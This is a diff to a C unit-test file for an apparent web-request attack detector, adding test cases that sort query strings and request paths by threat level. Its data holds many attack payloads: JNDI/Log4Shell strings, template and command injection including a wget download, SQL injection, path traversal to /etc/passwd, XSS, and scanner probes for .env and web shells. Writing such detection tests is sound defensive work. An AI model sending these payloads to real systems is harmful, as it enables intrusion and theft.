@@ -15,6 +15,7 @@
 #include <cmocka.h>
 
 static const char browser[] = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Firefox/125.0";
+static const char google[] = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
 static const struct address_key key = {{42, 0x9e3779b97f4a7c15, 0xbf58476d1ce4e5b9,
 					0x94d049bb133111eb}};
 static struct web_agents agents;
@@ -67,28 +68,77 @@ static void expect(struct conduct *c, const char *vector, const char *what)
 
 static void words_are_sorted(void **state)
 {
-	static const struct { const char *query; enum conduct_sort sort; } queries[] = {
-		{"x=${jndi:ldap://a}", CONDUCT_SURE}, {"x=$%7Bjndi:dns://a", CONDUCT_SURE},
-		{"x=%2524%257Bjndi%253Aldap", CONDUCT_SURE}, {"n={{7*7}}", CONDUCT_SURE},
-		{"n=${233*233}", CONDUCT_SURE}, {"u=http://169.254.169.254/", CONDUCT_SURE},
-		{"h=1;wget+http://e/x", CONDUCT_SURE}, {"h=$(id)", CONDUCT_SURE},
-		{"x=%u003Cscript%u003E", CONDUCT_PERHAPS}, {"x=\\u003cscript\\u003e", CONDUCT_PERHAPS},
-		{"id=1%27/**/union/**/select/**/1", CONDUCT_PERHAPS},
-		{"id=1%20/*!50000union*//*!50000select*/1", CONDUCT_PERHAPS},
+	static const struct { const char *query; enum conduct_sort sort;
+	} queries[] = {
+		{"x=${jndi:ldap://a}", CONDUCT_SURE},
+		{"x=$%7Bjndi:dns://a", CONDUCT_SURE},
+		{"x=%2524%257Bjndi%253Aldap", CONDUCT_SURE},
+		{"n={{7*7}}", CONDUCT_SURE},
+		{"n=${233*233}", CONDUCT_SURE},
+		{"u=http://169.254.169.254/", CONDUCT_SURE},
+		{"h=1;wget+http://e/x", CONDUCT_SURE},
+		{"h=$(whoami)", CONDUCT_SURE},
+		{"h=`id`", CONDUCT_SURE},
+		{"h=1%0aid", CONDUCT_PERHAPS},
+		{"h=1%26nslookup+x.example%26", CONDUCT_SURE},
+		{"h=1|busybox${IFS}x", CONDUCT_SURE},
+		{"n={{a.__class__}}", CONDUCT_SURE},
+		{"n=<%25=7*7%25>", CONDUCT_SURE},
+		{"n={{cfg.get('a')}}", CONDUCT_PERHAPS},
+		/* two that somebody might write, together */
+		{"f=../../etc/passwd", CONDUCT_SURE},
+		{"f=..%2fwp-config.php", CONDUCT_SURE},
+		{"id=1%20union%20select%201%20from%20information_schema.t", CONDUCT_SURE},
+		{"x=%3Cscript%3Ealert(1)", CONDUCT_SURE},
+		{"x=%3Cimg+a%3E%3Csvg%3E", CONDUCT_PERHAPS},
+		/* what people look for: browsers escape it */
+		{"q=%3Cscript%3Ealert(1)&page=2", CONDUCT_TYPED},
+		{"q=$%7Bjndi:ldap", CONDUCT_TYPED},
+		{"q=<script>alert(1)", CONDUCT_SURE},
+		{"q=a&x=${jndi:ldap}", CONDUCT_SURE},
+		{"s=/x/\\think\\app/invokefunction&function=call_user_func_array", CONDUCT_SURE},
+		{"x=%u003Cscript%u003E", CONDUCT_PERHAPS},
+		{"x=\\u003cscript\\u003e", CONDUCT_PERHAPS},
+		{"id=1%27/**/union/**/select/**/1", CONDUCT_SURE},
+		{"id=1%20/*!50000union*//*!50000select*/1", CONDUCT_SURE},
 		{"id=1%27%20%20union%09select", CONDUCT_PERHAPS},
 		{"id=1%20AND%208473%3D1192", CONDUCT_PERHAPS},
-		{"id=1%27+oR+%27a%27=%27a", CONDUCT_PERHAPS}, {"f=..%c0%af..%c0%afa", CONDUCT_SURE},
-		{"f=../x", CONDUCT_PERHAPS},
-		/* none */
+		{"id=1%27+oR+%27a%27=%27a", CONDUCT_PERHAPS},
+		{"f=..%c0%af..%c0%afa", CONDUCT_SURE},
+		{"f=../x", CONDUCT_TYPED},
+		{"f=../../../x", CONDUCT_PERHAPS},
+		{"id=1+UNION+SELECT+1", CONDUCT_PERHAPS},
+		{"id=5%27/**/or/**/1=1", CONDUCT_SURE},
+		{"h=1;cat+/etc/x", CONDUCT_PERHAPS},
+		{"h=1;ls+-l", CONDUCT_PERHAPS},
+		/* none: what consoles and maps send; what a page forgot to fill */
+		{"sql_query=SELECT+*+FROM+information_schema.tables+--+'", CONDUCT_NONE},
+		{"where=NAME+LIKE+%27A%25%27+AND+1=1", CONDUCT_NONE},
+		{"cql=a%3D2%20AND%201%3D1", CONDUCT_NONE},
+		{"a=${GDPR_CONSENT_755}&b={{campaign.id}}&c=$(date)", CONDUCT_NONE},
+		{"name=a;id=5|b", CONDUCT_NONE},
+		{"f=id;cat;ls|sh", CONDUCT_NONE},
+		{"t=this;+cat+pictures", CONDUCT_NONE},
+		{"a=1%26id%3D5", CONDUCT_NONE},
 		{"$filter=contains(Name,'O''Neil')%20and%20concat(A,B)%20eq%20'x'", CONDUCT_NONE},
-		{"name=O%27Neill+and+sons", CONDUCT_NONE}, {"q=rock+%27n%27+roll+and+more", CONDUCT_NONE},
-		{"a=1&or=2&and=3%20", CONDUCT_NONE}, {"v=$(VERSION)", CONDUCT_NONE},
-		{"q=function()+%7B+return", CONDUCT_NONE}, {"q=freemarker%20guide", CONDUCT_NONE},
-		{"sort=char(name)", CONDUCT_NONE}, {"f=%7B%22a%22:1%7D", CONDUCT_NONE},
-		{"where=a%20and%20b%3Dc", CONDUCT_NONE}, {"x={12*}", CONDUCT_NONE}, {"x=%", CONDUCT_NONE},
-		{"x=%u00", CONDUCT_NONE}, {"x=%u003", CONDUCT_NONE}, {"/*!", CONDUCT_NONE},
+		{"name=O%27Neill+and+sons", CONDUCT_NONE},
+		{"q=rock+%27n%27+roll+and+more", CONDUCT_NONE},
+		{"a=1&or=2&and=3%20", CONDUCT_NONE},
+		{"v=$(VERSION)", CONDUCT_NONE},
+		{"q=function()+%7B+return", CONDUCT_NONE},
+		{"q=freemarker%20guide", CONDUCT_NONE},
+		{"sort=char(name)", CONDUCT_NONE},
+		{"f=%7B%22a%22:1%7D", CONDUCT_NONE},
+		{"where=a%20and%20b%3Dc", CONDUCT_NONE},
+		{"x={12*}", CONDUCT_NONE},
+		{"x=%", CONDUCT_NONE},
+		{"x=%u00", CONDUCT_NONE},
+		{"x=%u003", CONDUCT_NONE},
+		{"/*!", CONDUCT_NONE},
 	};
 	static const struct { const char *path; bool found; } paths[] = {
+		{"/a/..%2fb", true}, {"/a/..%5cb", true}, {"/$%7Bimage%7D", false},
+		{"/wiki/Semicolon;_and_colon", false},
 		{"/../images/logo", false}, {"/a/../b", false}, {"/../../x", true},
 		{"/a/../../../x", true}, {"/a/../b/../c/../d", true}, {"/a/%2e%2e/b", true},
 		{"/tmui/login.jsp/..;/x", true},
@@ -112,14 +162,27 @@ static void words_are_sorted(void **state)
 /* Each by one client, a request a second. */
 static void few_requests_of_an_attack_are_enough(void **state)
 {
-	static const struct { int status; const char *what[5]; } all[] = {
+	static const struct { int status; const char *what[8]; } all[] = {
 		{200, {"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
 		       "POST /lib/phpunit/src/Util/PHP/eval-stdin.php"}},
 		{200, {"GET /api/.env", "GET /app/.env", "GET /.git/config"}},
 		{503, {"GET /.env", "GET /wp-login.php", "GET /shell.php"}},
 		{404, {"GET /a.php", "GET /b.php", "GET /c.php", "GET /d.php",
 		       "GET /e.php"}},
-		{404, {"GET /c99.php", "GET /wso.php"}},
+		{404, {"GET /c99.php"}}, {404, {"POST /functionRouter"}},
+		{404, {"GET /global-protect/login.esp", "GET /+CSCOE+/logon.html"}},
+		{404, {"POST /HNAP1/", "GET /HNAP1/"}},
+		{404, {"GET /getphpinfo.php/.css"}},
+		{404, {"GET /.env", "GET /app/.git/config"}},
+		{404, {"GET /+CSCOT+/t?domain=/x.lua&lang=../"}},
+		{404, {"GET /.travis/x", "GET /.circle/y", "GET /.gitea/z"}},
+		{404, {"POST /a.php", "POST /b.php", "POST /c.php"}},
+		{404, {"PUT /put", "DELETE /home", "POST /upload", "POST /sync", "POST /import",
+		       "POST /export", "POST /hook"}},
+		{200, {"GET /wp-json/wp/v2/users", "GET /?author=1", "GET /?author=2",
+		       "GET /?author=3", "GET /?author=4"}},
+		{200, {"GET /?x=${jndi:ldap://a.example/a}"}},
+		{200, {"GET /p?f=../../../etc/passwd"}},
 		{200, {"GET /server-info.action?a=b", "GET /setup/setupadministrator.action"}},
 		{400, {"GET /x?v=exec(java.lang.Runtime.getRuntime(),%27id%27)",
 		       "GET /x?v=exec(java.lang.Runtime.getRuntime(),%27id%27)"}},
@@ -130,21 +193,75 @@ static void few_requests_of_an_attack_are_enough(void **state)
 	(void)state;
 	for (size_t i = 0; i < WD_COUNT(all); i++) {
 		struct conduct *c = fresh();
-		for (unsigned k = 0; k < 5 && all[i].what[k] != NULL; k++)
+		for (unsigned k = 0; k < 8 && all[i].what[k] != NULL; k++)
 			see(c, k, "192.0.2.1", all[i].what[k], all[i].status, NULL, NULL);
 		expect(c, "http.probe", all[i].what[0]);
 	}
-	/* One of them is not; nor is one of each of four clients, but five. */
+	/* Of five clients that begin so it is told of all. */
 	for (unsigned clients = 1; clients <= 5; clients++) {
 		struct conduct *c = fresh();
 		char client[16];
+		bool many = false;
 		for (unsigned k = 0; k < clients; k++) {
 			snprintf(client, sizeof(client), "192.0.2.%u", k + 1);
-			see(c, k, client, "GET /?x=${jndi:ldap://a.example/a}", 200, NULL, NULL);
+			see(c, k, client, "GET /?x=${jndi:ldap://a.example/a}", 200,
+			    "https://a.example/", NULL);
 		}
-		bool many = c->notes[0].many && c->notes[0].marked == 5 && c->notes[0].missing == 0;
+		for (unsigned i = 0; i < c->note_count; i++)
+			many |= c->notes[i].many && c->notes[i].marked == 5;
 		assert_true(many == (clients == 5));
 		expect(c, clients < 5 ? NULL : "http.probe", "many clients");
+	}
+}
+
+/* Nothing of it is noted, however it looks: it was typed, followed, or is the owner's. */
+static void one_request_that_has_a_reason_is_not_enough(void **state)
+{
+	static const char site[] = "https://a.example/", app[] = "Client/1.0";
+	static const struct { int status; const char *referer, *agent, *what[6]; } all[] = {
+		{200, site, NULL, {"GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D", "GET /s?q=%3Cscript%3E",
+				   "GET /s?q=cat+%2Fetc%2Fpasswd", "GET /s?q=curl+%7C+bash"}},
+		{200, NULL, NULL, {"GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D"}},
+		{200, site, NULL, {"GET /p?x=${jndi:ldap://a}"}},
+		{200, NULL, google, {"GET /p?x=${jndi:ldap://a}"}},
+		{404, NULL, google, {"GET /vendor/eval-stdin.php"}},
+		{404, site, NULL, {"GET /vendor/eval-stdin.php"}},
+		/* the owner's host knows it, whatever it answers */
+		{200, NULL, app, {"POST /functionRouter", "POST /functionRouter", "POST /functionRouter"}},
+		{401, NULL, app, {"POST /mgmt/shared/authn/login", "GET /mgmt/tm/sys"}},
+		{200, NULL, app, {"GET /manager/text/list", "GET /manager/status", "GET /jolokia/read"}},
+		{200, NULL, NULL, {"GET /man/etc/passwd", "GET /man/etc/shadow.html", "GET /man/proc/self"}},
+		/* a client of a gateway that is elsewhere now */
+		{404, NULL, "PAN GlobalProtect/6.0", {"POST /global-protect/prelogin.esp",
+						      "POST /global-protect/getconfig.esp"}},
+		{404, NULL, "Microsoft Office/16.0", {"POST /autodiscover/autodiscover.xml",
+			"POST /Autodiscover/Autodiscover.xml", "GET /autodiscover/autodiscover.json",
+			"GET /autodiscover/autodiscover.json/v1.0/a%40b.example"}},
+		{404, NULL, "Zabbix 6.4", {"GET /solr/admin/cores", "GET /jolokia"}},
+		{404, NULL, google, {"GET /remote/login", "GET /owa/auth/logon.aspx",
+				     "GET /manager/html", "GET /wp-login.php"}},
+		{404, site, NULL, {"GET /docs/.vitepress/a", "GET /.netlify/functions/b",
+				   "GET /.netlify/identity/c", "GET /.tool/x", "GET /.docs/y"}},
+		{302, NULL, NULL, {"GET /login?next=../account", "GET /return?to=../../shop/"}},
+		{200, NULL, NULL, {"GET /x?f=id|name|sh", "GET /x?f=id;cat;ls", "GET /x?f=name|id"}},
+		/* a backup has a file of every name */
+		{404, NULL, "rclone/v1.6", {"HEAD /b/.env", "HEAD /b/.git/config", "HEAD /b/x.sql",
+					    "HEAD /b/.ssh/id_rsa", "HEAD /b/wp-config.php"}},
+		{404, NULL, "curl/8", {"GET /dist/a-1.2.tar.gz", "GET /dist/b.zip", "GET /dist/c.tgz"}},
+		/* what led there has what was forgotten in its address */
+		{200, "https://a.example/?c=${CLICK_ID}", NULL, {"GET /a", "GET /b", "GET /c"}},
+		{204, site, NULL, {"POST /m?url=https%3A%2F%2Fa.example%2F..%2Fa&rand=1",
+				   "POST /m?url=https%3A%2F%2Fa.example%2F..%2Fa&rand=1",
+				   "POST /m?url=https%3A%2F%2Fa.example%2F..%2Fa&rand=1",
+				   "POST /m?url=https%3A%2F%2Fa.example%2F..%2Fa&rand=1"}},
+	};
+	(void)state;
+	for (size_t i = 0; i < WD_COUNT(all); i++) {
+		struct conduct *c = fresh();
+		for (unsigned k = 0; k < 6 && all[i].what[k] != NULL; k++)
+			see(c, k, "192.0.2.1", all[i].what[k], all[i].status, all[i].referer,
+			    all[i].agent);
+		expect(c, NULL, all[i].what[0]);
 	}
 }
 
@@ -229,6 +346,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(words_are_sorted),
 		cmocka_unit_test(few_requests_of_an_attack_are_enough),
+		cmocka_unit_test(one_request_that_has_a_reason_is_not_enough),
 		cmocka_unit_test(programs_that_ask_for_much_are_told_from_searches),
 		cmocka_unit_test(sign_ins_of_many_applications),
 	};
